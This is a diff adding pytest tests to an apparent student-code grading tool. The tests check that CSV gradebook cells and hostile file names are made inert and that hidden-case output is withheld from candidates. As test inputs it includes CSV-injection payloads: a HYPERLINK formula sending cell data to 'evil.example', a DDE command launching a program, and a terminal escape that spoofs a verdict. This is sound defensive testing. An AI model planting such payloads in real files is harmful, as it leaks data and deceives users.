@@ -264,3 +264,50 @@ def test_a_batch_needs_a_secret_seed_unless_told_to_use_the_local_one(tmp_path, 
     assert not out.exists()
     status, _ = run_in_process(str(folder), "--out", str(out))  # with --allow-default-seed
     assert status == 0 and all("fixed local seed" in line["warnings"][0] for line in lines_of(out))
+
+
+FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"grade")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\tindented", "\rreturn"]
+
+
+def test_the_gradebook_never_holds_a_formula_or_a_raw_control_character(tmp_path):
+    # OWASP's advice on CSV injection: a cell a spreadsheet would read as a formula starts with a quote.
+    ids = [*FORMULAS, "plain", "nasty\x1b[2K\ud800"]
+    path = tmp_path / "grades.csv"
+    batch.write_csv(path, [(i, "accepted", 1.0) for i in ids])
+    cells = [row[0] for row in csv.reader(io.StringIO(path.read_text(encoding="utf-8")))][1:]
+    assert cells == ["'" + i for i in FORMULAS[:5]] + ["'\\x0dreturn", "plain", "nasty\\x1b[2K\ufffd"]
+
+
+def test_ids_a_file_name_chooses_are_inert_in_the_batchs_output_and_gradebook(tmp_path):
+    folder = tmp_path / "class"
+    folder.mkdir()
+    names = ['=HYPERLINK("evil.example","grade")', "-x", "evil\x1b[2K\rVerdict ACCEPTED"]  # no "/" in a file name
+    for name in names:
+        (folder / f"{name}.py").write_text("def mlm_forward_tied(:\n")  # graded without a child: fast
+    with open(os.fsencode(folder) + b"/not-utf8-\xff.py", "w") as f:  # a name that is not UTF-8: a lone surrogate in Python
+        f.write("def mlm_forward_tied(:\n")
+    out, gradebook = tmp_path / "results.jsonl", tmp_path / "grades.csv"
+    status, text = run_in_process(str(folder), "--out", str(out), "--csv", str(gradebook))
+    assert status == 0, text
+    assert "\x1b" not in text and "\r" not in text and "evil\\x1b[2K\\x0dVerdict ACCEPTED" in text
+    assert len(lines_of(out)) == 4
+    rows = list(csv.reader(io.StringIO(gradebook.read_text(encoding="utf-8"))))[1:]
+    assert sorted(row[0] for row in rows) == sorted(["'" + names[0], "'-x", "evil\\x1b[2K\\x0dVerdict ACCEPTED", "not-utf8-\ufffd"])
+
+
+def test_a_results_line_is_for_staff_and_holds_what_the_candidates_report_withholds(tmp_path):
+    from tests.test_formats import LEAKER
+
+    folder = tmp_path / "class"
+    folder.mkdir()
+    (folder / "leaker.py").write_text(LEAKER)
+    out = tmp_path / "results.jsonl"
+    status, text = run_in_process(str(folder), "--out", str(out))
+    assert status == 0, text
+    [line] = lines_of(out)
+    hidden = [case for case in line["cases"] if case["visibility"] == "hidden"]
+    assert hidden and all(case["output"] == "raised an exception (the message of a hidden case is not shown)" for case in hidden)
+    assert sorted(line["staff_only"]["cases"]) == sorted(case["name"] for case in hidden)
+    assert all("ValueError: LEAK [" in message for message in line["staff_only"]["cases"].values())
+    assert "[... what the submission printed once the hidden cases began is not shown]" in line["stdout"]
+    assert f"PRINTED call {len(line['cases'])} LEAK" in line["staff_only"]["stdout"]
